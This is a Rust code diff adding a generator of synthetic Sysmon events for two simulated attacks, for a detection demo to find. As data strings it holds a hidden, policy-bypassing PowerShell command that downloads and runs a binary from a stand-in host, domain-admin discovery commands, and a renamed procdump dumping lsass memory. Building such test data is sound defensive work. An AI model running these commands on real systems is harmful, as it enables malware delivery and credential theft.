@@ -359,6 +359,171 @@ pub fn hashes_for(image: &str, variant: usize) -> String {
     }
 }
 
+/// The dropped payload of [`Incident::MacroDropper`]: the demo's deny list
+/// names its hashes as malicious.
+pub const DROPPER_IMAGE: &str =
+    "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\msupdate.exe";
+
+/// The renamed dump tool of [`Incident::WmiLateral`]: the demo's deny list
+/// names its hashes as suspicious (a dual-use tool, not malware).
+pub const DUMPER_IMAGE: &str = "C:\\Windows\\Temp\\pd64.exe";
+
+/// An attack, as the events Sysmon records for it, for the demo to find.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Incident {
+    /// A macro document: WINWORD.EXE starts cmd.exe and PowerShell, which
+    /// drop and run [`DROPPER_IMAGE`]; the payload runs discovery commands.
+    MacroDropper,
+    /// Remote WMI execution (wmiexec's pattern): WmiPrvSE.exe starts
+    /// cmd.exe, which runs [`DUMPER_IMAGE`] against lsass.exe.
+    WmiLateral,
+}
+
+impl Generator {
+    /// The events of one `incident` on one host, with that host's boot or
+    /// logon tree, newest first, at the generator's current time (so a
+    /// caller places it among [`Generator::block`]s by when it calls).
+    pub fn incident(&mut self, incident: Incident) -> Vec<SynthEvent> {
+        let host_i = self.rng.below(self.hosts.len());
+        let host = self.hosts[host_i].clone();
+        let mut events = Vec::new();
+        let system = Proc {
+            guid: "{00000000-0000-0000-0000-000000000000}".into(),
+            depth: 0,
+            pid: 4,
+            image: "System",
+            command_line: String::new(),
+        };
+        let run = |g: &mut Generator,
+                   events: &mut Vec<SynthEvent>,
+                   parent: &Proc,
+                   image: &'static str,
+                   cmd: &str| {
+            g.spawn(&host, host_i, parent, image, cmd.to_string(), events)
+        };
+        let smss = run(
+            self,
+            &mut events,
+            &system,
+            "C:\\Windows\\System32\\smss.exe",
+            "\\SystemRoot\\System32\\smss.exe",
+        );
+        match incident {
+            Incident::MacroDropper => {
+                let winlogon = run(
+                    self,
+                    &mut events,
+                    &smss,
+                    "C:\\Windows\\System32\\winlogon.exe",
+                    "winlogon.exe",
+                );
+                let userinit = run(
+                    self,
+                    &mut events,
+                    &winlogon,
+                    "C:\\Windows\\System32\\userinit.exe",
+                    "C:\\Windows\\system32\\userinit.exe",
+                );
+                let explorer = run(
+                    self,
+                    &mut events,
+                    &userinit,
+                    "C:\\Windows\\explorer.exe",
+                    "C:\\Windows\\Explorer.EXE",
+                );
+                let word = run(self, &mut events, &explorer, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\Invoice_2026-11.docm\" /o \"\"");
+                let cmd = run(self, &mut events, &word, "C:\\Windows\\System32\\cmd.exe",
+                    "cmd.exe /c powershell -nop -w hidden -ep bypass -c \"iwr https://cdn.example.invalid/u.bin -o $env:APPDATA\\Microsoft\\Windows\\msupdate.exe; & $env:APPDATA\\Microsoft\\Windows\\msupdate.exe\"");
+                let ps = run(self, &mut events, &cmd, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                    "powershell -nop -w hidden -ep bypass -c \"iwr https://cdn.example.invalid/u.bin -o $env:APPDATA\\Microsoft\\Windows\\msupdate.exe; & $env:APPDATA\\Microsoft\\Windows\\msupdate.exe\"");
+                let acting = self.acting(&host, 3, &ps);
+                events.push(acting);
+                let payload = run(self, &mut events, &ps, DROPPER_IMAGE, "\"C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\msupdate.exe\" /install");
+                for code in [3, 13, 3] {
+                    let e = self.acting(&host, code, &payload);
+                    events.push(e);
+                }
+                let shell = run(
+                    self,
+                    &mut events,
+                    &payload,
+                    "C:\\Windows\\System32\\cmd.exe",
+                    "cmd.exe /c \"whoami /all & net group \"domain admins\" /domain\"",
+                );
+                run(
+                    self,
+                    &mut events,
+                    &shell,
+                    "C:\\Windows\\System32\\whoami.exe",
+                    "whoami /all",
+                );
+                run(
+                    self,
+                    &mut events,
+                    &shell,
+                    "C:\\Windows\\System32\\net.exe",
+                    "net group \"domain admins\" /domain",
+                );
+            }
+            Incident::WmiLateral => {
+                let wininit = run(
+                    self,
+                    &mut events,
+                    &smss,
+                    "C:\\Windows\\System32\\wininit.exe",
+                    "wininit.exe",
+                );
+                let lsass = run(
+                    self,
+                    &mut events,
+                    &wininit,
+                    "C:\\Windows\\System32\\lsass.exe",
+                    "C:\\Windows\\system32\\lsass.exe",
+                );
+                let services = run(
+                    self,
+                    &mut events,
+                    &wininit,
+                    "C:\\Windows\\System32\\services.exe",
+                    "C:\\Windows\\system32\\services.exe",
+                );
+                let svchost = run(
+                    self,
+                    &mut events,
+                    &services,
+                    "C:\\Windows\\System32\\svchost.exe",
+                    "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
+                );
+                let wmi = run(
+                    self,
+                    &mut events,
+                    &svchost,
+                    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
+                    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
+                );
+                let cmd = run(self, &mut events, &wmi, "C:\\Windows\\System32\\cmd.exe",
+                    "cmd.exe /Q /c C:\\Windows\\Temp\\pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp 1> \\\\127.0.0.1\\ADMIN$\\__1701234567.89 2>&1");
+                let dumper = run(self, &mut events, &cmd, DUMPER_IMAGE, "C:\\Windows\\Temp\\pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp");
+                // The dump: pd64.exe opens lsass.exe (CIM swaps source and
+                // target into parent_* and process_*).
+                let mut access = self.base(&host, 10);
+                access.set("SourceProcessGUID", dumper.guid.clone());
+                access.set("SourceImage", dumper.image);
+                access.set("process_guid", lsass.guid.clone());
+                access.set("process_path", lsass.image);
+                access.set("parent_process_guid", dumper.guid.clone());
+                access.set("parent_process_path", dumper.image);
+                events.push(access);
+                let file = self.acting(&host, 11, &dumper);
+                events.push(file);
+            }
+        }
+        events.reverse();
+        events
+    }
+}
+
 fn split_hashes(e: &mut SynthEvent, hashes: &str) {
     for part in hashes.split(',') {
         if let Some((k, v)) = part.split_once('=') {
